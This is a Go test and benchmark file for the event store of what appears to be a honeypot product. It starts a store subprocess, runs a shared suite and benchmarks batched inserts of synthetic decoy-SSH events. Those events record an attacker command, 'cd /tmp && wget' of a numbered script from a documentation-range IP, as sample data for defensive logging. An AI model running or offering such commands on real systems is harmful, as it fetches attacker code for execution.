package victoria

import (
	"bufio"
	"context"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"runtime/debug"
	"runtime/pprof"
	"syscall"
	"testing"
	"time"

	"github.com/lapwing-defence/lapwing/internal/event"
	"github.com/lapwing-defence/lapwing/internal/eventlog"
	"github.com/lapwing-defence/lapwing/internal/eventlog/eventlogtest"
)

// storeDir makes the test binary a store when it is set.
const storeDir = "LAPWING_TEST_STORE"

func TestMain(m *testing.M) {
	if dir := os.Getenv(storeDir); dir != "" {
		ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGTERM)
		defer stop()
		if file := os.Getenv("LAPWING_TEST_PROFILE"); file != "" {
			f, _ := os.Create(file)
			pprof.StartCPUProfile(f)
			defer pprof.StopCPUProfile()
		}
		debug.SetGCPercent(300)
		debug.SetMemoryLimit(512 << 20)
		ln, err := net.Listen("unix", filepath.Join(dir, "s"))
		if err == nil {
			err = Serve(ctx, Config{Dir: filepath.Join(dir, "d"), Retention: 30 * 24 * time.Hour}, ln, func() error { fmt.Println("ready"); return nil })
		}
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(2)
		}
		pprof.StopCPUProfile()
		os.Exit(0)
	}
	os.Exit(m.Run())
}

// store is a store in a process of its own.
type store struct {
	t   testing.TB
	dir string
	cmd *exec.Cmd
}

func newStore(tb testing.TB) *store {
	tb.Helper()
	dir, err := os.MkdirTemp("", "lw") //nolint:usetesting // the path of a socket is short by law
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() { os.RemoveAll(dir) })
	s := &store{t: tb, dir: dir}
	s.start()
	tb.Cleanup(func() { s.end(syscall.SIGTERM) })
	return s
}

func (s *store) start() {
	s.t.Helper()
	os.Remove(filepath.Join(s.dir, "s"))
	s.cmd = exec.Command(os.Args[0])
	s.cmd.Env = append(os.Environ(), storeDir+"="+s.dir)
	s.cmd.Stderr = s.t.Output()
	out, err := s.cmd.StdoutPipe()
	if err == nil {
		err = s.cmd.Start()
	}
	if err != nil {
		s.t.Fatal(err)
	}
	if sc := bufio.NewScanner(out); !sc.Scan() || sc.Text() != "ready" {
		s.t.Fatal("the store does not start")
	}
}

func (s *store) end(sig syscall.Signal) {
	if s.cmd.ProcessState == nil {
		s.cmd.Process.Signal(sig)
		s.cmd.Wait()
	}
}

func (s *store) client() *eventlog.Client {
	s.t.Helper()
	c, err := eventlog.NewClient(eventlog.ClientConfig{Socket: filepath.Join(s.dir, "s")})
	if err != nil {
		s.t.Fatal(err)
	}
	s.t.Cleanup(c.Close)
	return c
}

func TestSuite(t *testing.T) {
	eventlogtest.Run(t, newStore(t).client())
}

// TestExternal runs the suite against a VictoriaLogs of the operator's.
func TestExternal(t *testing.T) {
	url := os.Getenv("LAPWING_VICTORIALOGS")
	if url == "" {
		t.Skip("LAPWING_VICTORIALOGS names no server; set it to http://host:9428 to test one (started with -delete.enable -insert.maxLineSizeBytes=2MB)")
	}
	c, err := eventlog.NewClient(eventlog.ClientConfig{URL: url})
	if err != nil {
		t.Fatal(err)
	}
	eventlogtest.Run(t, c)
}

func BenchmarkInsert(b *testing.B) {
	s := newStore(b)
	c := s.client()
	ids := event.NewIDs(nil, time.Now)
	var batch eventlog.Batch
	n := 0
	for b.Loop() {
		batch.Reset()
		for range 2500 {
			n++
			e := event.Event{
				ID: ids.New(), Time: time.Now(), Ingested: time.Now().Truncate(time.Millisecond), Dataset: "decoy.ssh",
				Source: netip.MustParseAddrPort("198.51.100.7:51234"), Destination: netip.MustParseAddrPort("192.0.2.10:22"), Transport: "tcp", Protocol: "ssh",
				User: "root", Observer: "here", Host: "files", Decoy: "ssh", Persona: "debian-server", Connection: ids.New(), Session: ids.New(),
				Depth: event.DepthAct, CommandLine: fmt.Sprintf("cd /tmp && wget http://203.0.113.9/%d.sh", n), HasExit: true,
			}
			e.Describe(event.ActionCommandExecuted)
			e.Add("process.name", "wget")
			e.Add("process.working_directory", "/root")
			e.AddInt("process.pid", 4711)
			batch.Add(e.AppendJSON(nil), "-")
		}
		if err := c.Insert(b.Context(), "m", &batch); err != nil {
			b.Fatal(err)
		}
		if n%100_000 == 0 {
			if _, err := c.Checkpoint(b.Context(), eventlog.Stretch{Mark: "m"}); err != nil {
				b.Fatal(err)
			}
		}
	}
	s.end(syscall.SIGTERM)
	st := s.cmd.ProcessState
	b.ReportMetric(float64((st.UserTime()+st.SystemTime()).Microseconds())/float64(n), "CPU-us/event")
}
